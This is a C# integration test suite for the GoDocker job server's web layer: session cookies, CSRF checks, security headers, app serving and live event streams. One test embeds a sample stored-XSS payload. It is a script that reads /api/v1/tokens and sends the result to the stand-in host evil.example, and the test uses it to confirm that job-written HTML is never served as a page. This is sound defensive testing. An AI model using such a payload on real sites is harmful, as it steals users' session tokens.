using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using GoDocker.Contracts;
using GoDocker.IntegrationTests.Infrastructure;
using GoDocker.Jobs;

namespace GoDocker.IntegrationTests;

/// <summary>
/// The web interface's server side as a browser meets it (Auth:Provider=local): the session cookie, its CSRF value, the
/// app served at / with its headers, job-written HTML that must never run in our origin, and the live views.
/// Users: admin (bootstrap), alice, bob, dora (disabled).
/// </summary>
public sealed class WebSessionTests(WebSessionTests.Site site) : IClassFixture<WebSessionTests.Site>
{
    private const string AppMarker = "godocker-test-app";
    private const string Asset = "/assets/index-3f2a9c1d.js";

    public sealed class Site : IAsyncLifetime
    {
        private string passwordFile = null!;
        public string WebRoot { get; private set; } = null!;
        public ServerProcess Server { get; private set; } = null!;
        public Dictionary<string, string> Tokens { get; } = [];

        public async Task InitializeAsync()
        {
            passwordFile = Path.GetTempFileName();
            await File.WriteAllTextAsync(passwordFile, "admin-secret-1");
            // A stand-in for web/dist: what `npm run build` leaves, an index.html and hashed assets.
            WebRoot = Directory.CreateTempSubdirectory("godocker-ui-").FullName;
            await File.WriteAllTextAsync(Path.Combine(WebRoot, "index.html"), $"<!doctype html><title>{AppMarker}</title><script type=\"module\" src=\"{Asset}\"></script>");
            Directory.CreateDirectory(Path.Combine(WebRoot, "assets"));
            await File.WriteAllTextAsync(Path.Combine(WebRoot, Asset.TrimStart('/')), "console.log('app');");
            Server = await ServerProcess.StartAsync(new Dictionary<string, string>
            {
                ["Auth:Provider"] = "local",
                ["Auth:BootstrapAdmin"] = "admin",
                ["Auth:BootstrapAdminPasswordFile"] = passwordFile,
                ["Server:WebRoot"] = WebRoot,
                ["Web:LiveInterval"] = "00:00:00.200",
            });
            Tokens["admin"] = await TokenAsync("admin", "admin-secret-1");
            var uid = 3200;
            foreach (var login in (string[])["alice", "bob", "dora"])
            {
                using var created = await Bearer("admin").PostAsJsonAsync("/api/v1/users",
                    new UserRequest { Login = login, Uid = ++uid, Gid = uid, Password = $"{login}-password", Disabled = login == "dora" }, GoDockerJson.Default.UserRequest);
                created.EnsureSuccessStatusCode();
            }
            Tokens["alice"] = await TokenAsync("alice", "alice-password");
            Tokens["bob"] = await TokenAsync("bob", "bob-password");
        }

        public async Task DisposeAsync()
        {
            await Server.DisposeAsync();
            File.Delete(passwordFile);
            Directory.Delete(WebRoot, recursive: true);
        }

        public HttpClient Anonymous() => new() { BaseAddress = Server.BaseUrl };

        public HttpClient Bearer(string login)
        {
            var client = Anonymous();
            client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", Tokens[login]);
            return client;
        }

        private async Task<string> TokenAsync(string login, string password)
        {
            using var client = Anonymous();
            using var response = await client.PostAsJsonAsync("/api/v1/auth/login", new LoginRequest(login, password), GoDockerJson.Default.LoginRequest);
            response.EnsureSuccessStatusCode();
            return (await response.Content.ReadFromJsonAsync(GoDockerJson.Default.LoginResponse))!.Token;
        }
    }

    /// <summary>A browser's session: its cookie (as the browser would send it back), the CSRF value the app read, the Set-Cookie line.</summary>
    private sealed record Session(string Cookie, string Csrf, string SetCookie, SessionView View);

    private async Task<Session> LogInAsync(string login)
    {
        using var client = site.Anonymous();
        using var response = await client.PostAsJsonAsync("/api/v1/auth/session", new LoginRequest(login, $"{login}-password"), GoDockerJson.Default.LoginRequest);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var setCookie = Assert.Single(response.Headers.GetValues("Set-Cookie"));
        var cookie = setCookie.Split(';')[0];
        var view = (await response.Content.ReadFromJsonAsync(GoDockerJson.Default.SessionView))!;
        return new Session(cookie, view.CsrfToken, setCookie, view);
    }

    /// <summary>A client that sends the cookie, and the CSRF value when given, as the app does.</summary>
    private HttpClient Browser(Session session, bool withCsrf)
    {
        var client = new HttpClient(new HttpClientHandler { UseCookies = false }) { BaseAddress = site.Server.BaseUrl };
        client.DefaultRequestHeaders.Add("Cookie", session.Cookie);
        if (withCsrf)
        {
            client.DefaultRequestHeaders.Add("X-CSRF-Token", session.Csrf);
        }
        return client;
    }

    private async Task<JobView> JobAsync(long id) =>
        (await site.Bearer("admin").GetFromJsonAsync($"/api/v1/jobs/{id}", GoDockerJson.Default.JobView))!;

    [Fact]
    public async Task Session_SetsAnHttpOnlySameSiteStrictCookie_ThatAuthenticates_AndGivesTheCsrfValueNotTheSecret()
    {
        var session = await LogInAsync("alice");
        using var browser = Browser(session, withCsrf: false);

        var attributes = session.SetCookie.Split(';', StringSplitOptions.TrimEntries).Skip(1).Select(a => a.ToLowerInvariant()).ToList();
        Assert.StartsWith("godocker_session=gd_", session.Cookie, StringComparison.Ordinal);
        Assert.Contains("httponly", attributes);
        Assert.Contains("samesite=strict", attributes);
        Assert.Contains("path=/", attributes);
        Assert.DoesNotContain("secure", attributes);
        Assert.Equal("alice", session.View.User.Login);
        Assert.False(string.IsNullOrEmpty(session.View.CsrfToken));
        Assert.NotNull(session.View.ExpiresAt);
        Assert.DoesNotContain(session.Cookie["godocker_session=".Length..], JsonSerializer.Serialize(session.View, GoDockerJson.Default.SessionView), StringComparison.Ordinal);
        var whoami = (await browser.GetFromJsonAsync("/api/v1/auth/whoami", GoDockerJson.Default.UserView))!;
        var again = (await browser.GetFromJsonAsync("/api/v1/auth/session", GoDockerJson.Default.SessionView))!;
        Assert.Equal("alice", whoami.Login);
        Assert.Equal(("alice", session.Csrf, "local"), (again.User.Login, again.CsrfToken, again.Authentication));
        Assert.Equal(session.View.ExpiresAt, again.ExpiresAt);
    }

    [Fact]
    public async Task Session_WithoutCookie_Is401Problem()
    {
        using var client = site.Anonymous();

        using var response = await client.GetAsync("/api/v1/auth/session");

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
    }

    [Theory]
    [InlineData("alice", "wrong-password")]
    [InlineData("dora", "dora-password")]
    [InlineData("nobody", "nobody-password")]
    public async Task Session_ForAWrongPasswordOrADisabledUser_Is401_AndSetsNoCookie(string login, string password)
    {
        using var client = site.Anonymous();

        using var response = await client.PostAsJsonAsync("/api/v1/auth/session", new LoginRequest(login, password), GoDockerJson.Default.LoginRequest);

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
        Assert.False(response.Headers.Contains("Set-Cookie"));
    }

    [Fact]
    public async Task CookieRequestsThatChangeState_WithoutTheCsrfValue_Are403_AndChangeNothing_WithItTheyWork()
    {
        var session = await LogInAsync("alice");
        using var forged = Browser(session, withCsrf: false);
        using var app = Browser(session, withCsrf: true);
        using var wrong = Browser(session with { Csrf = WrongCsrf(session.Csrf) }, withCsrf: true);
        var tag = "csrf-" + Guid.NewGuid().ToString("N")[..8];

        using var forgedSubmit = await forged.PostAsJsonAsync("/api/v1/jobs", new JobSpec { Script = "echo pwned", Tags = [tag], Hold = true }, GoDockerJson.Default.JobSpec);
        using var submitted = await app.PostAsJsonAsync("/api/v1/jobs", new JobSpec { Script = "echo held", Tags = [tag], Hold = true }, GoDockerJson.Default.JobSpec);
        var job = (await submitted.Content.ReadFromJsonAsync(GoDockerJson.Default.JobView))!;
        using var forgedKill = await forged.PostAsync($"/api/v1/jobs/{job.Id}/kill", null);
        using var wrongKill = await wrong.PostAsync($"/api/v1/jobs/{job.Id}/kill", null);
        var afterForgeries = await JobAsync(job.Id);
        using var kill = await app.PostAsync($"/api/v1/jobs/{job.Id}/kill", null);

        Assert.Equal(HttpStatusCode.Forbidden, forgedSubmit.StatusCode);
        Assert.Contains("X-CSRF-Token", await forgedSubmit.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Created, submitted.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, forgedKill.StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, wrongKill.StatusCode);
        Assert.Equal(JobState.Pending, afterForgeries.State);
        Assert.Equal(HttpStatusCode.Accepted, kill.StatusCode);
        Assert.Equal(JobState.Killed, (await JobAsync(job.Id)).State);
        var listed = (await app.GetFromJsonAsync($"/api/v1/jobs?tag={tag}", GoDockerJson.Default.JobList))!;
        Assert.Equal([job.Id], listed.Items.Select(j => j.Id));
    }

    private static string WrongCsrf(string csrf) => (csrf[0] == 'A' ? 'B' : 'A') + csrf[1..];

    [Fact]
    public async Task BearerRequests_NeedNoCsrfValue()
    {
        using var alice = site.Bearer("alice");
        using var submitted = await alice.PostAsJsonAsync("/api/v1/jobs", new JobSpec { Script = "echo held", Hold = true }, GoDockerJson.Default.JobSpec);
        var job = (await submitted.Content.ReadFromJsonAsync(GoDockerJson.Default.JobView))!;

        using var kill = await alice.PostAsync($"/api/v1/jobs/{job.Id}/kill", null);

        Assert.Equal(HttpStatusCode.Created, submitted.StatusCode);
        Assert.Equal(HttpStatusCode.Accepted, kill.StatusCode);
    }

    [Fact]
    public async Task Logout_RevokesTheSession_AndExpiresTheCookie()
    {
        var session = await LogInAsync("alice");
        using var forged = Browser(session, withCsrf: false);
        using var app = Browser(session, withCsrf: true);

        using var forgedLogout = await forged.DeleteAsync("/api/v1/auth/session");
        var stillIn = (await app.GetAsync("/api/v1/auth/session")).StatusCode;
        using var logout = await app.DeleteAsync("/api/v1/auth/session");
        using var after = await app.GetAsync("/api/v1/auth/session");

        Assert.Equal(HttpStatusCode.Forbidden, forgedLogout.StatusCode);
        Assert.Equal(HttpStatusCode.OK, stillIn);
        Assert.Equal(HttpStatusCode.NoContent, logout.StatusCode);
        var expired = Assert.Single(logout.Headers.GetValues("Set-Cookie"));
        Assert.StartsWith("godocker_session=;", expired, StringComparison.Ordinal);
        Assert.Contains("expires=Thu, 01 Jan 1970", expired, StringComparison.OrdinalIgnoreCase);
        Assert.Equal(HttpStatusCode.Unauthorized, after.StatusCode);
        var tokens = (await site.Bearer("alice").GetFromJsonAsync("/api/v1/tokens", GoDockerJson.Default.IReadOnlyListTokenInfo))!;
        Assert.Contains(tokens, t => t.Name == "web session" && t.Revoked);
    }

    [Fact]
    public async Task TheApp_IsServedAtTheRootAndForItsRoutes_Anonymously_WithItsHeaders()
    {
        using var anonymous = site.Anonymous();

        using var root = await anonymous.GetAsync("/");
        using var route = await anonymous.GetAsync("/jobs/42");
        using var asset = await anonymous.GetAsync(Asset);
        using var missingAsset = await anonymous.GetAsync("/assets/index-00000000.js");

        foreach (var page in new[] { root, route })
        {
            Assert.Equal(HttpStatusCode.OK, page.StatusCode);
            Assert.Equal("text/html", page.Content.Headers.ContentType?.MediaType);
            Assert.Contains(AppMarker, await page.Content.ReadAsStringAsync(), StringComparison.Ordinal);
            Assert.True(page.Headers.CacheControl?.NoCache, "index.html is revalidated");
            AssertUiHeaders(page);
        }
        Assert.Equal(HttpStatusCode.OK, asset.StatusCode);
        Assert.Equal("text/javascript", asset.Content.Headers.ContentType?.MediaType);
        Assert.Equal("public, max-age=31536000, immutable", asset.Headers.CacheControl?.ToString());
        AssertUiHeaders(asset);
        Assert.Equal(HttpStatusCode.NotFound, missingAsset.StatusCode);
    }

    private static void AssertUiHeaders(HttpResponseMessage response)
    {
        Assert.Equal(
            "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; connect-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'",
            Assert.Single(response.Headers.GetValues("Content-Security-Policy")));
        Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
        Assert.Equal("same-origin", Assert.Single(response.Headers.GetValues("Referrer-Policy")));
    }

    private static void AssertApiHeaders(HttpResponseMessage response)
    {
        Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
        Assert.Equal("default-src 'none'; sandbox; frame-ancestors 'none'", Assert.Single(response.Headers.GetValues("Content-Security-Policy")));
    }

    [Fact]
    public async Task AnUnknownApiPath_StaysA404Problem_NotTheApp_AndEveryApiAnswerCarriesNosniffAndTheSandbox()
    {
        var session = await LogInAsync("bob");
        using var browser = Browser(session, withCsrf: false);

        using var nope = await browser.GetAsync("/api/nope");
        using var nopeV1 = await browser.GetAsync("/api/v1/nope");
        using var health = await browser.GetAsync("/api/v1/health");
        using var unauthorized = await site.Anonymous().GetAsync("/api/v1/jobs");

        foreach (var missing in new[] { nope, nopeV1 })
        {
            Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
            Assert.Equal("application/problem+json", missing.Content.Headers.ContentType?.MediaType);
            Assert.DoesNotContain(AppMarker, await missing.Content.ReadAsStringAsync(), StringComparison.Ordinal);
            AssertApiHeaders(missing);
        }
        AssertApiHeaders(health);
        Assert.Equal(HttpStatusCode.Unauthorized, unauthorized.StatusCode);
        AssertApiHeaders(unauthorized);
    }

    [Fact]
    public async Task HtmlAJobWrites_IsNeverServedAsAPageOfOurOrigin()
    {
        // The attacker owns a job: they write a page that would read the session's data if it ran as our origin,
        // and lure its owner (or a manager) to open the download link.
        using var alice = site.Bearer("alice");
        using var submitted = await alice.PostAsJsonAsync("/api/v1/jobs", new JobSpec
        {
            Script = "printf '<html><script>fetch(\"/api/v1/tokens\").then(r=>r.text()).then(t=>fetch(\"//evil.example/?\"+t))</script>' > evil.html; cat evil.html",
        }, GoDockerJson.Default.JobSpec);
        var job = (await submitted.Content.ReadFromJsonAsync(GoDockerJson.Default.JobView))!;
        Assert.Equal(JobState.Succeeded, (await site.Server.Api.WaitForAsync(job.Id, j => j.State.IsTerminal(), null, site.Tokens["alice"])).State);
        var session = await LogInAsync("alice");
        using var browser = Browser(session, withCsrf: false);

        using var file = await browser.GetAsync($"/api/v1/jobs/{job.Id}/files/evil.html");
        using var stdout = await browser.GetAsync($"/api/v1/jobs/{job.Id}/stdout");

        Assert.Equal(HttpStatusCode.OK, file.StatusCode);
        Assert.Contains("<script>", await file.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal("application/octet-stream", file.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", file.Content.Headers.ContentDisposition?.DispositionType);
        AssertApiHeaders(file);
        Assert.Equal(HttpStatusCode.OK, stdout.StatusCode);
        Assert.Contains("<script>", await stdout.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal("text/plain", stdout.Content.Headers.ContentType?.MediaType);
        AssertApiHeaders(stdout);
    }

    [Fact]
    public async Task LiveList_SendsThePageAtOnce_AndAgainWhenAJobIsSubmittedAndWhenItEnds()
    {
        var session = await LogInAsync("alice");
        using var browser = Browser(session, withCsrf: true);
        var tag = "live-" + Guid.NewGuid().ToString("N")[..8];
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        using var response = await browser.SendAsync(new HttpRequestMessage(HttpMethod.Get, $"/api/v1/jobs/events?tag={tag}"), HttpCompletionOption.ResponseHeadersRead, timeout.Token);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/event-stream", response.Content.Headers.ContentType?.MediaType);
        using var events = new ServerSentEvents(await response.Content.ReadAsStreamAsync(timeout.Token));

        var first = await events.NextAsync(timeout.Token);
        using var submitted = await browser.PostAsJsonAsync("/api/v1/jobs", new JobSpec { Script = "echo held", Tags = [tag], Hold = true }, GoDockerJson.Default.JobSpec, timeout.Token);
        var job = (await submitted.Content.ReadFromJsonAsync(GoDockerJson.Default.JobView, timeout.Token))!;
        var afterSubmit = await events.NextAsync(timeout.Token);
        (await browser.PostAsync($"/api/v1/jobs/{job.Id}/kill", null, timeout.Token)).EnsureSuccessStatusCode();
        // The scheduler may restate the held job's reason first: each change is an event, the kill's comes.
        var afterKill = await events.NextAsync(m => Deserialize(m, GoDockerJson.Default.JobList).Items.Any(j => j.State == JobState.Killed), timeout.Token);

        Assert.Equal("jobs", first.Event);
        Assert.Equal(0, Deserialize(first, GoDockerJson.Default.JobList).Total);
        Assert.Equal("jobs", afterSubmit.Event);
        Assert.Equal([(job.Id, JobState.Pending)], Deserialize(afterSubmit, GoDockerJson.Default.JobList).Items.Select(j => (j.Id, j.State)));
        Assert.Equal([(job.Id, JobState.Killed)], Deserialize(afterKill, GoDockerJson.Default.JobList).Items.Select(j => (j.Id, j.State)));
        // Exactly what GET /jobs answers for the same query.
        Assert.Equal(await browser.GetStringAsync($"/api/v1/jobs?tag={tag}", timeout.Token), afterKill.Data);
    }

    [Fact]
    public async Task LiveList_EndsWhenItsSessionIsLoggedOut()
    {
        // A stream authenticates once; a stolen session that is revoked must not keep watching.
        var session = await LogInAsync("alice");
        using var browser = Browser(session, withCsrf: true);
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(90));
        using var response = await browser.SendAsync(new HttpRequestMessage(HttpMethod.Get, "/api/v1/jobs/events"), HttpCompletionOption.ResponseHeadersRead, timeout.Token);
        using var events = new ServerSentEvents(await response.Content.ReadAsStreamAsync(timeout.Token));
        await events.NextAsync(timeout.Token);

        (await browser.DeleteAsync("/api/v1/auth/session", timeout.Token)).EnsureSuccessStatusCode();

        // Re-checked every 15 s (the keepalive's period): the stream then ends.
        await Assert.ThrowsAsync<EndOfStreamException>(async () =>
        {
            while (true)
            {
                await events.NextAsync(timeout.Token);
            }
        });
    }

    [Fact]
    public async Task LiveList_ABadParameter_Is400NamingIt_BeforeAnyStream()
    {
        var session = await LogInAsync("alice");
        using var browser = Browser(session, withCsrf: false);

        using var response = await browser.GetAsync("/api/v1/jobs/events?limit=0");

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("\"limit\"", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task LiveJob_OfAnotherUsersJob_Is404_OfOnesOwn_SendsItWithItsTimeline()
    {
        using var bob = site.Bearer("bob");
        using var alice = site.Bearer("alice");
        var bobs = (await (await bob.PostAsJsonAsync("/api/v1/jobs", new JobSpec { Script = "echo bob", Hold = true }, GoDockerJson.Default.JobSpec))
            .Content.ReadFromJsonAsync(GoDockerJson.Default.JobView))!;
        var alices = (await (await alice.PostAsJsonAsync("/api/v1/jobs", new JobSpec { Script = "echo alice", Hold = true }, GoDockerJson.Default.JobSpec))
            .Content.ReadFromJsonAsync(GoDockerJson.Default.JobView))!;
        var session = await LogInAsync("alice");
        using var browser = Browser(session, withCsrf: true);
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(60));

        using var others = await browser.SendAsync(new HttpRequestMessage(HttpMethod.Get, $"/api/v1/jobs/{bobs.Id}/live"), HttpCompletionOption.ResponseHeadersRead, timeout.Token);
        using var own = await browser.SendAsync(new HttpRequestMessage(HttpMethod.Get, $"/api/v1/jobs/{alices.Id}/live"), HttpCompletionOption.ResponseHeadersRead, timeout.Token);
        using var events = new ServerSentEvents(await own.Content.ReadAsStreamAsync(timeout.Token));
        var first = await events.NextAsync(timeout.Token);
        (await browser.PostAsync($"/api/v1/jobs/{alices.Id}/kill", null, timeout.Token)).EnsureSuccessStatusCode();
        var afterKill = await events.NextAsync(m => Deserialize(m, GoDockerJson.Default.JobView).State == JobState.Killed, timeout.Token);

        Assert.Equal(HttpStatusCode.NotFound, others.StatusCode);
        Assert.Equal("application/problem+json", others.Content.Headers.ContentType?.MediaType);
        Assert.Equal("job", first.Event);
        var view = Deserialize(first, GoDockerJson.Default.JobView);
        Assert.Equal((alices.Id, JobState.Pending), (view.Id, view.State));
        Assert.NotEmpty(view.Events!);
        Assert.Equal(JobState.Killed, Deserialize(afterKill, GoDockerJson.Default.JobView).State);
        Assert.Equal(await browser.GetStringAsync($"/api/v1/jobs/{alices.Id}", timeout.Token), afterKill.Data);
    }

    private static T Deserialize<T>(ServerSentEvents.Message message, System.Text.Json.Serialization.Metadata.JsonTypeInfo<T> type) =>
        JsonSerializer.Deserialize(message.Data, type)!;
}

/// <summary>A minimal text/event-stream reader: the next event's name and data, skipping comments (keepalives).</summary>
internal sealed class ServerSentEvents(Stream stream) : IDisposable
{
    private readonly StreamReader reader = new(stream, Encoding.UTF8);

    public sealed record Message(string Event, string Data);

    /// <summary>The next event <paramref name="wanted"/> takes, skipping the others.</summary>
    public async Task<Message> NextAsync(Func<Message, bool> wanted, CancellationToken cancellationToken)
    {
        while (true)
        {
            var message = await NextAsync(cancellationToken);
            if (wanted(message))
            {
                return message;
            }
        }
    }

    public async Task<Message> NextAsync(CancellationToken cancellationToken)
    {
        string? name = null;
        var data = new StringBuilder();
        while (true)
        {
            var line = await reader.ReadLineAsync(cancellationToken) ?? throw new EndOfStreamException("the event stream ended");
            if (line.Length == 0)
            {
                if (data.Length > 0)
                {
                    return new Message(name ?? "message", data.ToString());
                }
                continue;
            }
            if (line.StartsWith(':'))
            {
                continue;
            }
            var (field, value) = line.IndexOf(':') is var colon and >= 0 ? (line[..colon], line[(colon + 1)..].TrimStart(' ')) : (line, "");
            if (field == "event")
            {
                name = value;
            }
            else if (field == "data")
            {
                data.Append(data.Length > 0 ? "\n" : "").Append(value);
            }
        }
    }

    public void Dispose() => reader.Dispose();
}

/// <summary>Auth:Provider none with no app built: the session is the local user's at once, and / says how to build the app.</summary>
public sealed class WebWithoutAuthenticationTests(WebWithoutAuthenticationTests.Fixture fixture) : IClassFixture<WebWithoutAuthenticationTests.Fixture>
{
    public sealed class Fixture : ServerFixture
    {
        protected override IReadOnlyDictionary<string, string>? Settings => new Dictionary<string, string>
        {
            ["Server:WebRoot"] = Path.Combine(Path.GetTempPath(), "godocker-no-ui-" + Guid.NewGuid().ToString("N")),
        };
    }

    [Fact]
    public async Task Session_IsTheLocalUser_WithoutCookie_AndWithAnEmptyCsrfValue()
    {
        using var response = await fixture.Api.Http.GetAsync("/api/v1/auth/session");
        var session = (await response.Content.ReadFromJsonAsync(GoDockerJson.Default.SessionView))!;

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal((Environment.UserName, "", "none"), (session.User.Login, session.CsrfToken, session.Authentication));
        Assert.True(session.User.Admin);
    }

    [Fact]
    public async Task Root_WithoutABuiltApp_SaysHowToBuildIt()
    {
        using var response = await fixture.Api.Http.GetAsync("/");
        var page = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/html", response.Content.Headers.ContentType?.MediaType);
        Assert.Contains("not built", page, StringComparison.Ordinal);
        Assert.Contains("./godocker.sh up", page, StringComparison.Ordinal);
    }
}
